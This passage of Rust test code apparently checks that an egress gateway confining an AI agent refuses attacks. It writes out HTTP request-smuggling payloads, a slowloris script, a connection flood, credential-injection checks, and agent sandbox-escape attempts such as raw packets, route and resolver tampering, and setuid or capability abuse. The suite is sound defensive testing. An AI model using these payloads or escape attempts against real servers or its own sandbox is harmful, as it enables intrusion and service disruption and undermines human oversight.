                            .and_then(|s| if s.contains(code) { Ok(s) } else { Err(s) })
                    })
                }),
            ),
            (Col::Tls1, tls("--http1.1")),
            (Col::Tls2, tls("--http2")),
            (
                Col::Proxy,
                run(move |c| {
                    let m = c.marker();
                    quiet(c, || {
                        let a = status(
                            &c.proxy(&format!("https://allowed.test{path}{m}"), &[]),
                            &[403],
                        )?;
                        let b = status(
                            &c.proxy(&format!("http://allowed.test{path}{m}"), &[]),
                            &[403],
                        )?;
                        if a.contains(code) && b.contains(code) {
                            Ok(format!("CONNECT and http://: {a}"))
                        } else {
                            Err(format!("{a} / {b}"))
                        }
                    })
                }),
            ),
        ]
    };
    let mut first = mk("/admin/", "no_match");
    first.push((
        Col::Tcp,
        run(|c| {
            getent(c, "allowed.test");
            quiet(c, || fast_refusal(&c.py(&tcp_probe(ORIGIN_V4, 7))))
        }),
    ));
    first.push((
        Col::Dns,
        run(|c| {
            let (st, _) = dig(c, &["@198.18.0.1", "denied.test", "A"]);
            if st == "NXDOMAIN" && c.b.lab.dns().queries_for("denied.test") == 0 {
                Ok("NXDOMAIN".into())
            } else {
                Err(st)
            }
        }),
    ));
    vec![
        a(
            12,
            "a path the route does not list (same verdict on every path)",
            first,
        ),
        a(
            12,
            "dot segments (`/echo/../admin`, `/echo/%2e%2e/admin`)",
            {
                let mut cells = mk("/echo/../admin/", "path_not_canonical");
                cells.push((Col::Direct, Cell::Covered("policy unit tests (one `decide` function for every path); the transparent cells of this row")));
                cells.retain(|(col, _)| *col != Col::Direct);
                cells
            },
        ),
        a(
            12,
            "control: what the policy allows passes on every path",
            vec![
                (
                    Col::Http,
                    run(|c| status(&c.http("http.test", "/echo", &[]), &[200])),
                ),
                (
                    Col::Tls1,
                    run(|c| status(&c.tls("--http1.1", "allowed.test", "/echo", &[]), &[200])),
                ),
                (
                    Col::Tls2,
                    run(|c| status(&c.tls("--http2", "allowed.test", "/echo", &[]), &[200])),
                ),
                (
                    Col::Proxy,
                    run(|c| status(&c.proxy("https://allowed.test/echo", &[]), &[200])),
                ),
                (
                    Col::Tcp,
                    run(|c| {
                        getent(c, "echo.test");
                        let out = c.py(&tcp_probe(ECHO_V4, 7));
                        if out.starts_with("ok") {
                            Ok("echoed".into())
                        } else {
                            Err(out)
                        }
                    }),
                ),
                (
                    Col::Dns,
                    run(|c| {
                        let (st, answers) = dig(c, &["@198.18.0.1", "allowed.test", "A"]);
                        if st == "NOERROR" && !answers.is_empty() {
                            Ok("NOERROR".into())
                        } else {
                            Err(st)
                        }
                    }),
                ),
            ],
        ),
    ]
}

fn row13() -> Vec<Attack> {
    let tls = |flag: &'static str| {
        run(move |c: &Ctx| {
            let m = c.marker();
            quiet(c, || {
                status(
                    &c.tls(flag, "self.test", &format!("/echo/{m}"), &[]),
                    &[502],
                )
                .and_then(|s| {
                    let body = c.tls(flag, "self.test", "/echo", &[]).body;
                    if body.contains("gateway itself") {
                        Ok(format!("{s} (the gateway itself)"))
                    } else {
                        Err(body)
                    }
                })
            })
        })
    };
    vec![
        a(
            13,
            "an allowed name resolving to the gateway's own wan address (inside allow_ranges)",
            vec![
                (
                    Col::Http,
                    run(|c| {
                        let m = c.marker();
                        quiet(c, || {
                            status(&c.http("self.test", &format!("/echo/{m}"), &[]), &[502])
                        })
                    }),
                ),
                (Col::Tls1, tls("--http1.1")),
                (Col::Tls2, tls("--http2")),
                (
                    Col::Proxy,
                    run(|c| {
                        quiet(c, || {
                            status(&c.proxy("https://self.test/echo", &[]), &[502])?;
                            connect_tcp_refused(c, "self.test:7")
                        })
                    }),
                ),
                (
                    Col::Tcp,
                    run(|c| {
                        getent(c, "self.test");
                        quiet(c, || {
                            let out = c.py(&tcp_probe(GATEWAY_WAN_V4, 7));
                            if out.starts_with("ok") {
                                Err(out)
                            } else {
                                Ok(out.trim().to_owned())
                            }
                        })
                    }),
                ),
            ],
        ),
        a(
            13,
            "the explicit proxy asked to reach itself",
            vec![
                (
                    Col::Proxy,
                    run(|c| {
                        quiet(c, || {
                            refused_raw(&c.py(&attempt("198.18.0.1", 3128, "CONNECT 198.18.0.1:3128 HTTP/1.1\\r\\nHost: 198.18.0.1:3128\\r\\n\\r\\n", "", "")), true)?;
                            refused_raw(&c.py(&attempt("198.18.0.1", 3128, "GET http://198.18.0.1:3128/ HTTP/1.1\\r\\nHost: 198.18.0.1:3128\\r\\nConnection: close\\r\\n\\r\\n", "", "")), true)
                        })
                    }),
                ),
                (
                    Col::Http,
                    run(|c| {
                        quiet(c, || {
                            refused_raw(&c.py(&attempt("198.18.0.1", 80, "GET / HTTP/1.1\\r\\nHost: 198.18.0.1\\r\\nConnection: close\\r\\n\\r\\n", "", "")), true)
                        })
                    }),
                ),
            ],
        ),
    ]
}

fn row14() -> Vec<Attack> {
    let trace_tls = |flag: &'static str| {
        run(move |c: &Ctx| {
            quiet(c, || {
                status(
                    &c.tls(flag, "other.allowed.test", "/echo", &["-X", "TRACE"]),
                    &[403],
                )
            })
        })
    };
    let replaced = |flag: &'static str| {
        run(move |c: &Ctx| {
            let m = c.marker();
            let r = c.tls(
                flag,
                "other.allowed.test",
                &format!("/echo/{m}"),
                &[
                    "-H",
                    "Authorization: Bearer agent-made-up",
                    "-H",
                    "Proxy-Authorization: Basic YWdlbnQ6eA==",
                ],
            );
            let rec = c.reached(&m);
            match rec.as_slice() {
                [one]
                    if r.status == 200
                        && one.header_all("authorization")
                            == [format!("Bearer {SECRET}").as_str()]
                        && one.header("proxy-authorization").is_none() =>
                {
                    Ok("agent credentials replaced".into())
                }
                _ => Err(format!("{} {rec:?}", r.summary())),
            }
        })
    };
    let redirect = |flag: &'static str| {
        run(move |c: &Ctx| {
            let m = c.marker();
            let to = format!("https://allowed.test/echo/{m}");
            let r = c.tls(
                flag,
                "other.allowed.test",
                &format!("/redirect?to={to}"),
                &["-L", "--resolve", &format!("allowed.test:443:{ORIGIN_V4}")],
            );
            let rec: Vec<_> = c
                .reached(&m)
                .into_iter()
                .filter(|r| r.path.starts_with("/echo/"))
                .collect();
            match rec.as_slice() {
                [one]
                    if r.status == 200
                        && one.header("authorization").is_none()
                        && !format!("{one:?}").contains(SECRET) =>
                {
                    Ok("no credential after the redirect".into())
                }
                _ => Err(format!("{} {rec:?}", r.summary())),
            }
        })
    };
    vec![
        a(
            14,
            "TRACE (reflects injected credentials)",
            vec![
                (
                    Col::Http,
                    run(|c| {
                        quiet(c, || {
                            status(&c.http("http.test", "/echo", &["-X", "TRACE"]), &[403])
                        })
                    }),
                ),
                (Col::Tls1, trace_tls("--http1.1")),
                (Col::Tls2, trace_tls("--http2")),
                (
                    Col::Proxy,
                    run(|c| {
                        quiet(c, || {
                            status(
                                &c.proxy("https://other.allowed.test/echo", &["-X", "TRACE"]),
                                &[403],
                            )?;
                            status(&c.proxy("http://http.test/echo", &["-X", "TRACE"]), &[403])
                        })
                    }),
                ),
            ],
        ),
        a(
            14,
            "an `auth` route over plain HTTP (secret would travel in clear)",
            vec![
                (
                    Col::Http,
                    run(|c| {
                        quiet(c, || {
                            status(&c.http("other.allowed.test", "/echo", &[]), &[403])
                        })
                    }),
                ),
                (
                    Col::Proxy,
                    run(|c| {
                        quiet(c, || {
                            status(&c.proxy("http://other.allowed.test/echo", &[]), &[403])
                        })
                    }),
                ),
            ],
        ),
        a(
            14,
            "agent-supplied Authorization / Proxy-Authorization",
            vec![
                (Col::Tls1, replaced("--http1.1")),
                (Col::Tls2, replaced("--http2")),
            ],
        ),
        a(
            14,
            "a redirect from an `auth` route to another host",
            vec![
                (Col::Tls1, redirect("--http1.1")),
                (Col::Tls2, redirect("--http2")),
            ],
        ),
    ]
}

fn row15() -> Vec<Attack> {
    // Raw h1 requests over plain HTTP (port 80) and TLS (443); `{m}` marks what must not arrive.
    let raw = |payload: &'static str, need_answer: bool| {
        let on = move |port: u16| {
            run(move |c: &Ctx| {
                let m = c.marker();
                let payload = payload.replace("{m}", &m);
                let (ip, sni, alpn) = if port == 443 {
                    (ORIGIN_V4, "allowed.test", "http/1.1")
                } else {
                    (ORIGIN_V4, "", "")
                };
                let out = c.py(&attempt(ip, port, &payload, sni, alpn));
                let smuggled = c.reached(&format!("{m}-smuggled"));
                if !smuggled.is_empty() {
                    return Err(format!("smuggled request reached the origin: {smuggled:?}"));
                }
                let whole = c.reached(&m);
                if need_answer && !whole.is_empty() {
                    return Err(format!("the origin received {whole:?}"));
                }
                if need_answer {
                    return refused_raw(&out, true).map_err(|e| format!("{e} {out}"));
                }
                smuggling_outcome(&out)
            })
        };
        (on(80), on(443))
    };
    let mut out = Vec::new();
    let cases: [(&str, &'static str, bool); 4] = [
        (
            "CL.TE smuggling (Content-Length + Transfer-Encoding)",
            "POST /echo/{m} HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /admin/{m}-smuggled HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n",
            false,
        ),
        (
            "TE.CL smuggling (chunked body hiding a request)",
            "POST /echo/{m} HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n3a\\r\\nGET /admin/{m}-smuggled HTTP/1.1\\r\\nHost: allowed.test\\r\\nX: y\\r\\n\\r\\n\\r\\n0\\r\\n\\r\\n",
            false,
        ),
        (
            "duplicate Content-Length",
            "POST /echo/{m} HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 5\\r\\nContent-Length: 48\\r\\nConnection: close\\r\\n\\r\\nhelloGET /admin/{m}-smuggled HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n",
            true,
        ),
        (
            "obs-fold header line (folded Host)",
            "GET /echo/{m} HTTP/1.1\\r\\nHost: allowed.test\\r\\nX-Fold: a\\r\\n  b\\r\\nConnection: close\\r\\n\\r\\n",
            true,
        ),
    ];
    for (name, payload, need) in cases {
        let (http, tls) = raw(payload, need);
        let mut cells = vec![(Col::Http, http), (Col::Tls1, tls)];
        let p = payload;
        cells.push((
            Col::Proxy,
            run(move |c| {
                let m = c.marker();
                let payload = p
                    .replace("{m}", &m)
                    .replace("POST /echo/", "POST http://http.test/echo/")
                    .replace("GET /admin/", "GET http://http.test/admin/")
                    .replace("GET /echo/", "GET http://http.test/echo/")
                    .replace("Host: allowed.test", "Host: http.test");
                let out = c.py(&attempt("198.18.0.1", 3128, &payload, "", ""));
                let smuggled = c.reached(&format!("{m}-smuggled"));
                if !smuggled.is_empty() {
                    return Err(format!("smuggled: {smuggled:?}"));
                }
                if need && !c.reached(&m).is_empty() {
                    return Err("the origin received the request".into());
                }
                if need {
                    refused_raw(&out, true)
                } else {
                    smuggling_outcome(&out)
                }
            }),
        ));
        if name.starts_with("duplicate") {
            cells.push((
                Col::Tls2,
                run(|c| {
                    let m = c.marker();
                    let ca = std::fs::read(&c.b.ca_pem).unwrap();
                    let uri = format!("https://allowed.test/echo/{m}");
                    let st =
                        c.b.lab
                            .run_in(Host::Agent, move || h2_content_length(ca, &uri))
                            .unwrap();
                    if c.reached(&m).is_empty() && !matches!(st, Ok(200)) {
                        Ok(format!("{st:?}"))
                    } else {
                        Err(format!("{st:?}, origin {:?}", c.reached(&m)))
                    }
                }),
            ));
        }
        out.push(a(15, name, cells));
    }
    let big = |kind: &'static str| {
        move |flag: &'static str| {
            run(move |c: &Ctx| {
                let m = c.marker();
                let file = c.b.lab.dir().join(format!("headers-{m}.txt"));
                let text = if kind == "size" {
                    format!("X-Big: {}\n", "a".repeat(100 * 1024))
                } else {
                    (0..10_000).map(|i| format!("X-H{i}: v\n")).collect()
                };
                std::fs::write(&file, text).unwrap();
                let h = format!("@{}", file.display());
                quiet(c, || {
                    let r = c.tls(flag, "allowed.test", &format!("/echo/{m}"), &["-H", &h]);
                    if r.status == 0 || (400..500).contains(&r.status) {
                        Ok(r.summary())
                    } else {
                        Err(r.summary())
                    }
                })
            })
        }
    };
    let http_big = |kind: &'static str| {
        run(move |c: &Ctx| {
            let m = c.marker();
            let file = c.b.lab.dir().join(format!("headers-{m}.txt"));
            let text = if kind == "size" {
                format!("X-Big: {}\n", "a".repeat(100 * 1024))
            } else {
                (0..10_000).map(|i| format!("X-H{i}: v\n")).collect()
            };
            std::fs::write(&file, text).unwrap();
            let h = format!("@{}", file.display());
            quiet(c, || {
                let r = c.http("allowed.test", &format!("/echo/{m}"), &["-H", &h]);
                if r.status == 0 || (400..500).contains(&r.status) {
                    Ok(r.summary())
                } else {
                    Err(r.summary())
                }
            })
        })
    };
    let proxy_big = |kind: &'static str| {
        run(move |c: &Ctx| {
            let m = c.marker();
            let file = c.b.lab.dir().join(format!("headers-{m}.txt"));
            let text = if kind == "size" {
                format!("X-Big: {}\n", "a".repeat(100 * 1024))
            } else {
                (0..10_000).map(|i| format!("X-H{i}: v\n")).collect()
            };
            std::fs::write(&file, text).unwrap();
            let h = format!("@{}", file.display());
            quiet(c, || {
                let r = c.proxy(&format!("http://http.test/echo/{m}"), &["-H", &h]);
                if r.status == 0 || (400..500).contains(&r.status) {
                    Ok(r.summary())
                } else {
                    Err(r.summary())
                }
            })
        })
    };
    for (name, kind) in [
        ("100 KB of request headers", "size"),
        ("10,000 request headers", "count"),
    ] {
        let f = big(kind);
        out.push(a(
            15,
            name,
            vec![
                (Col::Http, http_big(kind)),
                (Col::Tls1, f("--http1.1")),
                (Col::Tls2, f("--http2")),
                (Col::Proxy, proxy_big(kind)),
            ],
        ));
    }
    out.push(a(
        15,
        "slowloris (a request head trickled byte by byte)",
        vec![(
            Col::Http,
            Cell::Covered("run in parallel on its own gateway, see `slowloris`"),
        )],
    ));
    let h2c = |port: u16| {
        run(move |c: &Ctx| {
            let m = c.marker();
            let (sni, alpn) = if port == 443 {
                ("allowed.test", "http/1.1")
            } else {
                ("", "")
            };
            let out = c.py(&attempt(ORIGIN_V4, port, &format!("GET /echo/{m} HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\\r\\n\\r\\n"), sni, alpn));
            let st = py_statuses(&out);
            let leaked: Vec<_> = c
                .reached(&m)
                .into_iter()
                .filter(|r| r.header("upgrade").is_some() || r.header("http2-settings").is_some())
                .collect();
            if st.contains(&101) || !leaked.is_empty() {
                Err(format!("{st:?} {leaked:?}"))
            } else {
                Ok(format!("no upgrade ({st:?}), origin saw no Upgrade header"))
            }
        })
    };
    out.push(a(15, "`Upgrade: h2c` (opaque protocol switch)", vec![
        (Col::Http, h2c(80)),
        (Col::Tls1, h2c(443)),
        (Col::Proxy, run(|c| {
            let m = c.marker();
            let out = c.py(&attempt("198.18.0.1", 3128, &format!("GET http://http.test/echo/{m} HTTP/1.1\\r\\nHost: http.test\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\\r\\n\\r\\n"), "", ""));
            let st = py_statuses(&out);
            let leaked: Vec<_> = c.reached(&m).into_iter().filter(|r| r.header("upgrade").is_some()).collect();
            if st.contains(&101) || !leaked.is_empty() { Err(format!("{st:?} {leaked:?}")) } else { Ok(format!("no upgrade ({st:?})")) }
        })),
    ]));
    out.push(a(15, "CONNECT inside an intercepted connection", vec![
        (Col::Http, run(|c| quiet(c, || refused_raw(&c.py(&attempt(ORIGIN_V4, 80, "CONNECT echo.test:7 HTTP/1.1\\r\\nHost: echo.test:7\\r\\n\\r\\nping", "", "")), false)))),
        (Col::Tls1, run(|c| quiet(c, || refused_raw(&c.py(&attempt(ORIGIN_V4, 443, "CONNECT other.allowed.test:443 HTTP/1.1\\r\\nHost: other.allowed.test:443\\r\\n\\r\\n", "allowed.test", "http/1.1")), true)))),
        (Col::Tls2, run(|c| {
            let ca = std::fs::read(&c.b.ca_pem).unwrap();
            quiet(c, || {
                let st = c.b.lab.run_in(Host::Agent, move || h2_requests(ca, "allowed.test", vec![(http::Method::CONNECT, "echo.test:7".into())])).unwrap();
                match st.as_slice() { [Ok(s)] if *s >= 400 => Ok(format!("{s}")), [Err(e)] => Ok(format!("refused: {e}")), _ => Err(format!("{st:?}")) }
            })
        })),
        (Col::Proxy, run(|c| {
            quiet(c, || {
                let out = c.py("s=conn('198.18.0.1',3128)\ns.sendall(b'CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n')\nh=b''\nwhile b'\\r\\n\\r\\n' not in h: h+=s.recv(1)\nc=ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); c.check_hostname=False; c.verify_mode=ssl.CERT_NONE\nt=c.wrap_socket(s,server_hostname='allowed.test')\nt.sendall(b'CONNECT echo.test:7 HTTP/1.1\\r\\nHost: echo.test:7\\r\\n\\r\\nping')\nr=readall(t)\nst=[l.split(b' ')[1].decode() for l in r.split(b'\\r\\n') if l.startswith(b'HTTP/1.')]\nprint('STATUSES',' '.join(st) or '-')\n");
                refused_raw(&out, true)
            })
        })),
    ]));
    for (declared, name) in [
        (
            true,
            "a request body declared over the bound (Content-Length 4 MiB, 1 MiB allowed)",
        ),
        (
            false,
            "a body without end (chunked h1, an h2 stream without a length) past the bound",
        ),
    ] {
        let cells = [Col::Http, Col::Tls1, Col::Tls2, Col::Proxy]
            .into_iter()
            .map(|col| (col, body_over_bound(col, declared)))
            .collect();
        out.push(a(15, name, cells));
    }
    out.push(a(
        15,
        "a client opening connections without end (100 held open): its next one is closed, another client is served",
        [Col::Http, Col::Tls1, Col::Proxy]
            .into_iter()
            .map(|col| (col, connection_flood(col)))
            .collect(),
    ));
    out
}

/// Row 15: 4 MiB to a route through `col`, its length declared (refused before anything
/// goes upstream) or streamed (cut off at the bound: the origin never gets a whole
/// request); the agent gets 413.
fn body_over_bound(col: Col, declared: bool) -> Cell {
    run(move |c: &Ctx| {
        let m = c.marker();
        let size = 4 * BODY_LIMIT;
        let file = c.b.lab.dir().join(format!("body-{m}"));
        std::fs::write(&file, vec![b'x'; size]).map_err(|e| e.to_string())?;
        let data = format!("@{}", file.display());
        let path = format!("/echo/{m}");
        let send = || -> Result<String, String> {
            let mut extra = vec!["--data-binary", data.as_str()];
            if !declared {
                extra.extend(["-H", "Transfer-Encoding: chunked"]);
            }
            let curl = match col {
                Col::Http => c.http("allowed.test", &path, &extra),
                Col::Tls1 => c.tls("--http1.1", "allowed.test", &path, &extra),
                Col::Proxy => c.proxy(&format!("http://http.test{path}"), &extra),
                _ => {
                    let ca = std::fs::read(&c.b.ca_pem).map_err(|e| e.to_string())?;
                    let uri = format!("https://allowed.test{path}");
                    let st =
                        c.b.lab
                            .run_in(Host::Agent, move || h2_upload(ca, &uri, size, declared))
                            .map_err(|e| e.to_string())??;
                    return if st == 413 {
                        Ok("413".into())
                    } else {
                        Err(format!("expected 413, got {st}"))
                    };
                }
            };
            status(&curl, &[413])
        };
        // A declared length is refused before the upstream is dialled at all.
        let result = if declared { quiet(c, send) } else { send() };
        let reached = c.reached(&m);
        if !reached.is_empty() {
            return Err(format!("the origin received the request: {reached:?}"));
        }
        result.map(|r| format!("{r}, the origin got no request"))
    })
}

/// Row 15: the agent holds [`CLIENT_CONNECTIONS`] connections open on the TLS port; its
/// next connection to `col`'s listener is closed before a byte is read, while a second
/// client on the agent network is served through the same listener.
fn connection_flood(col: Col) -> Cell {
    run(move |c: &Ctx| {
        let m = c.marker();
        let lab = &c.b.lab;
        let addr = format!("{OTHER_CLIENT}/24");
        let add = lab
            .exec(Host::Agent, &["ip", "addr", "add", &addr, "dev", "eth0"])
            .map_err(|e| e.to_string())?;
        if !add.success() {
            return Err(format!("adding the second client: {add:?}"));
        }
        let release = lab.dir().join(format!("release-{m}"));
        let (ip, port) = match col {
            Col::Http => (ORIGIN_V4.to_string(), 80),
            Col::Tls1 => (ORIGIN_V4.to_string(), 443),
            _ => ("198.18.0.1".to_owned(), 3128),
        };
        let script = format!(
            "import os\nheld=[conn('{ORIGIN_V4}',443,None,False,timeout=5) for _ in range({CLIENT_CONNECTIONS})]\n\
             time.sleep(0.3)\ns=conn('{ip}',{port},None,False,timeout=5)\ns.settimeout(3)\nt=time.time()\n\
             try:\n  r='closed' if s.recv(1)==b'' else 'data'\nexcept ConnectionResetError:\n  r='closed'\nexcept Exception as e:\n  r=type(e).__name__\n\
             print('NEXT', r, '%.2f' % (time.time()-t), flush=True)\n\
             end=time.time()+30\nwhile not os.path.exists('{}') and time.time()<end: time.sleep(0.05)\n",
            release.display()
        );
        let mut flood = lab
            .command(
                Host::Agent,
                &[
                    "python3",
                    "-c",
                    &format!("{}\n{script}", bottleneck_conformance::PY_PRELUDE),
                ],
            )
            .timeout(Duration::from_secs(60))
            .spawn()
            .map_err(|e| e.to_string())?;
        let next = flood.wait_for_output("NEXT", Duration::from_secs(20));
        let other = match col {
            Col::Http => c.http(
                "allowed.test",
                &format!("/echo/{m}"),
                &["--interface", OTHER_CLIENT],
            ),
            Col::Tls1 => c.tls(
                "--http1.1",
                "allowed.test",
                &format!("/echo/{m}"),
                &["--interface", OTHER_CLIENT],
            ),
            _ => c.proxy(
                &format!("http://http.test/echo/{m}"),
                &["--interface", OTHER_CLIENT],
            ),
        };
        let _ = std::fs::write(&release, "");
        let _ = flood.wait_timeout(Duration::from_secs(10));
        let text = String::from_utf8_lossy(&flood.stdout()).into_owned();
        let _ = lab.exec(Host::Agent, &["ip", "addr", "del", &addr, "dev", "eth0"]);
        next.map_err(|e| format!("{e}: {text}"))?;
        let line = text
            .lines()
            .find(|l| l.starts_with("NEXT"))
            .unwrap_or_default();
        if !line.starts_with("NEXT closed") {
            return Err(format!(
                "the next connection was not closed at once: {text}"
            ));
        }
        status(&other, &[200])
            .map(|o| format!("{}; the second client: {o}", line.trim()))
            .map_err(|e| format!("the second client was not served: {e}"))
    })
}

/// Slowloris on its own gateway: 30 connections trickle a request head; the gateway must
/// keep serving others and cut the trickles (header timeout), the origin seeing nothing.
fn slowloris(c: &Ctx) -> Vec<(Col, Result<String, String>)> {
    let script = |ip: &str, port: u16, sni: &str, proxy: bool| {
        let tls = if sni.is_empty() {
            "False".to_owned()
        } else {
            "True".to_owned()
        };
        let sni = if sni.is_empty() {
            "None".to_owned()
        } else {
            format!("'{sni}'")
        };
        let target = if proxy {
            "http://http.test/echo/slow"
        } else {
            "/echo/slow"
        };
        format!(
            "import threading\nres=[]\ndef slow():\n  try:\n    s=conn('{ip}',{port},{sni},{tls},timeout=60)\n  except Exception as e:\n    res.append('connect-error'); return\n  t=time.time()\n  head=b'GET {target} HTTP/1.1\\r\\nHost: allowed.test\\r\\nX-Pad: '+b'a'*400\n  try:\n    for b in head:\n      s.sendall(bytes([b])); time.sleep(0.25)\n      if time.time()-t>50: break\n    d=s.recv(100)\n    res.append('cut %.0f %r' % (time.time()-t, d[:12]))\n  except Exception as e:\n    res.append('cut %.0f %s' % (time.time()-t, type(e).__name__))\nth=[threading.Thread(target=slow) for _ in range(10)]\n[x.start() for x in th]\n[x.join() for x in th]\nprint(res)\n"
        )
    };
    let runs = [
        (Col::Http, script(&ORIGIN_V4.to_string(), 80, "", false)),
        (
            Col::Tls1,
            script(&ORIGIN_V4.to_string(), 443, "allowed.test", false),
        ),
        (Col::Proxy, script("198.18.0.1", 3128, "", true)),
    ];
    let handles: Vec<_> = runs
        .into_iter()
        .map(|(col, s)| {
            let lab_cmd =
                c.b.lab
                    .command(
                        Host::Agent,
                        &[
                            "python3",
                            "-c",
                            &format!("{}\n{s}", bottleneck_conformance::PY_PRELUDE),
                        ],
                    )
                    .timeout(Duration::from_secs(90));
            (
                col,
                std::thread::spawn(move || lab_cmd.run().map(|o| o.stdout_str())),
            )
        })
        .collect();
    // Meanwhile, others keep being served.
    std::thread::sleep(Duration::from_secs(3));
    let mut served = Vec::new();
    for _ in 0..3 {
        served.push(
            c.tls("--http1.1", "allowed.test", "/echo/normal", &[])
                .status,
        );
        served.push(c.http("http.test", "/echo/normal", &[]).status);
        std::thread::sleep(Duration::from_secs(2));
    }
    let reached = c.reached("slow");
    handles
        .into_iter()
        .map(|(col, h)| {
            let out = h.join().unwrap().unwrap_or_default();
            let cut = out.matches("cut ").count();
            let secs: Vec<u64> = out
                .split("cut ")
                .skip(1)
                .filter_map(|s| s.split_whitespace().next()?.parse().ok())
                .collect();
            let fine = cut == 10
                && secs.iter().all(|s| *s <= 45)
                && served.iter().all(|s| *s == 200)
                && reached.is_empty();
            let text = format!(
                "10 trickling heads cut after {:?}..{:?} s, others served {served:?}",
                secs.iter().min(),
                secs.iter().max()
            );
            (
                col,
                if fine {
                    Ok(text)
                } else {
                    Err(format!("{text}: {out} origin {reached:?}"))
                },
            )
        })
        .collect()
}

fn row16() -> Vec<Attack> {
    vec![
        a(
            16,
            "capabilities, no_new_privs, user switch of the agent and of PID 1 (shim)",
            vec![(Col::Direct, shim(shim_no_privilege))],
        ),
        a(
            16,
            "the agent undoing routes / resolv.conf: route replace and delete, link down, resolv.conf append and move, new network or user namespace (shim)",
            vec![(Col::Direct, shim(shim_undo))],
        ),
        a(
            16,
            "setuid-root binaries (ip, cat), a file-capability interpreter (python, cap_net_admin,cap_net_raw+ep), ambient capabilities (shim)",
            vec![(Col::Direct, shim(shim_setuid_fcaps))],
        ),
        a(
            16,
            "an agent holding CAP_NET_RAW/NET_ADMIN (e.g. `docker exec`) sends raw packets",
            vec![(
                Col::Direct,
                run(|c| {
                    quiet(c, || {
                        // A raw UDP datagram to the echo server, built by hand, and a route change.
                        c.b.lab
                            .exec(
                                Host::Agent,
                                &[
                                    "ip",
                                    "route",
                                    "replace",
                                    "default",
                                    "via",
                                    "198.18.0.1",
                                    "dev",
                                    "eth0",
                                    "metric",
                                    "5",
                                ],
                            )
                            .unwrap();
                        let out = c.py(&format!("import struct\nr=socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_UDP)\npayload=b'raw-bypass'\nudp=struct.pack('>HHHH',40000,7,8+len(payload),0)+payload\nr.sendto(udp,('{ECHO_V4}',0))\nu=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); u.settimeout(2); u.bind(('0.0.0.0',40000))\ntry:\n  print('answered', u.recv(100))\nexcept Exception as e:\n  print('no answer', type(e).__name__)\n"));
                        c.b.lab
                            .exec(
                                Host::Agent,
                                &[
                                    "ip",
                                    "route",
                                    "del",
                                    "default",
                                    "via",
                                    "198.18.0.1",
                                    "dev",
                                    "eth0",
                                    "metric",
                                    "5",
                                ],
                            )
                            .unwrap();
                        if out.contains("no answer") {
                            Ok("raw datagram dropped/rejected".into())
                        } else {
                            Err(out)
                        }
                    })
                }),
            )],
        ),
    ]
}

const NO_CAPS: &str = "0000000000000000";

/// Row 16: the agent and the shim (PID 1) hold no capability in any set, no_new_privs is
/// set, the agent runs as node; a route change and a datagram to the neighbour fail.
fn shim_no_privilege(s: &ShimCtx) -> Result<String, String> {
    let before = s.root("cat /proc/self/status").stdout_str();
    let root_caps = status_field(&before, "CapEff").unwrap_or("?").to_owned();
    if root_caps == NO_CAPS {
        return Err(format!(
            "control: the container's root has no capability: {before}"
        ));
    }
    let specs = [
        spec("nbr4", "tcp", Neighbour::V4, 80),
        spec("echo4", "udp", ECHO_V4, 7),
    ];
    shim_quiet(s, || {
        let script = format!(
            "echo ==self==; cat /proc/self/status; echo ==pid1==; cat /proc/1/status; \
             echo ==id==; id; echo ==end==; ip route replace default via {} dev eth0; \
             echo route_rc=$?; {}",
            Neighbour::V4,
            s.probe(&specs)
        );
        let out = s.shim(&[], &script)?;
        let text = out.stdout_str();
        let own = section(&text, "self");
        let pid1 = section(&text, "pid1");
        for cap in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
            if status_field(&own, cap) != Some(NO_CAPS) {
                return Err(format!("the agent's {cap}: {own}"));
            }
        }
        for cap in ["CapInh", "CapPrm", "CapEff", "CapAmb"] {
            if status_field(&pid1, cap) != Some(NO_CAPS) {
                return Err(format!("PID 1's {cap}: {pid1}"));
            }
        }
        if status_field(&own, "NoNewPrivs") != Some("1") {
            return Err(format!("no_new_privs not set: {own}"));
        }
        let ids = format!("{AGENT_UID}\t{AGENT_UID}\t{AGENT_UID}\t{AGENT_UID}");
        if status_field(&own, "Uid") != Some(ids.as_str())
            || status_field(&own, "Gid") != Some(ids.as_str())
        {
            return Err(format!("not node's ids: {own}"));
        }
        refused_rc(&text, "route_rc")?;
        let results = probed(&out, &["nbr4", "echo4"])?;
        if neighbour_answered(&results["nbr4"]) {
            return Err(format!("nbr4 reached the neighbour: {}", results["nbr4"]));
        }
        narrowed(&agent_routes(s))?;
        Ok(format!(
            "container root CapEff {root_caps}; after the shim the agent ({}) and PID 1 hold \
             no capability (CapBnd {} / PID 1 CapBnd {}), NoNewPrivs 1; route change refused",
            section(&text, "id").trim(),
            status_field(&own, "CapBnd").unwrap_or("?"),
            status_field(&pid1, "CapBnd").unwrap_or("?")
        ))
    })
}

/// Row 16: nothing the agent tries puts its routes or its resolver back.
fn shim_undo(s: &ShimCtx) -> Result<String, String> {
    let specs = [
        spec("nbr4", "tcp", Neighbour::V4, 80),
        spec("echo4", "udp", ECHO_V4, 7),
    ];
    shim_quiet(s, || {
        let script = format!(
            "{undo}{probe}",
            undo = undo_attempts_script(Neighbour::V4),
            probe = s.probe(&specs)
        );
        let out = s.shim(&[], &script)?;
        let text = out.stdout_str();
        let attempts = UNDO_ATTEMPTS;
        for attempt in attempts {
            refused_rc(&text, attempt)?;
        }
        let refusals = out.stderr_str().matches("Operation not permitted").count();
        let results = probed(&out, &["nbr4", "echo4"])?;
        if neighbour_answered(&results["nbr4"]) {
